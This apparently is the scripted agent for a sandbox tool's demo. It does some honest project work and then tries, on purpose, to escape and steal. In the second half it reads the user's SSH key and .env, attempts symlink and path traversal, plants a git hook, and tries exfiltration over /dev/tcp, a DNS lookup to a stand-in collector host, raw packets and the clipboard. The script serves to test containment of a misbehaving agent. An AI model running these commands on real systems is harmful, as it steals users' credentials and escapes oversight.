# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=sh
#
# The agent of `mvagent demo`: it runs inside, in the sample project, and does honest work first.
# Then it is turned: it goes for everything a stolen laptop would be good for. Nothing in here
# knows what stops it; who ran it looks at that from outside.
#
# Lines that begin with the character RS tell the demo what comes: "work COMMAND", "try ATTEMPT
# COMMAND", "lack ATTEMPT PROGRAM", "end STATUS". All others are what a command printed.
#   $1  a port of the host on which somebody listens
#   $2  the home directory of whoever runs the agent

port=$1 home=$2
export LC_ALL=C
export GIT_AUTHOR_NAME=Agent GIT_AUTHOR_EMAIL=agent@example.org
export GIT_COMMITTER_NAME=Agent GIT_COMMITTER_EMAIL=agent@example.org

# In a shell of its own, as an agent's tool call is.
one()
{
	sh -c "$1" 2>&1 </dev/null
	printf '\036end %d\n' $?
}

work()
{
	printf '\036work %s\n' "$1"
	one "$1"
}

# try ATTEMPT PROGRAM COMMAND: where the program is not installed the attempt is not made.
try()
{
	if command -v "$2" >/dev/null; then
		printf '\036try %s %s\n' "$1" "$3"
		one "$3"
	else
		printf '\036lack %s %s\n' "$1" "$2"
	fi
}

work 'sh test.sh'
work "sed -i 's/Hello,/Hello, /' greet.sh"
work 'sh test.sh'
[ ! -d .git ] || ! command -v git >/dev/null || work "git commit -qam 'Put a space in the greeting'; git log --oneline"

try keys cat "cat $home/.ssh/id_ed25519"
try hidden cat 'cat .env'
try traversal cat 'ln -s ../home/.ssh notes; cat notes/id_ed25519; cat ../../../../..'"$home/.ssh/id_ed25519"
try hooks sh "mkdir -p .git/hooks; printf '#!/bin/sh\nid >../stolen\n' >.git/hooks/post-checkout"
try http bash "bash -c 'exec 3<>/dev/tcp/127.0.0.1/$port && echo GET /collect >&3'"
try dns getent 'getent hosts stolen-key.collector.example'
try frames python3 "python3 -c 'import socket; s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind((\"eth0\", 0)); print(s.send(b\"stolen\" * 10), \"bytes sent\")'"
try environment env 'env | sort | head -n 20'
try clipboard printf "printf '\\033]52;c;%s\\007' c3RvbGVu; echo copied"
exit 0
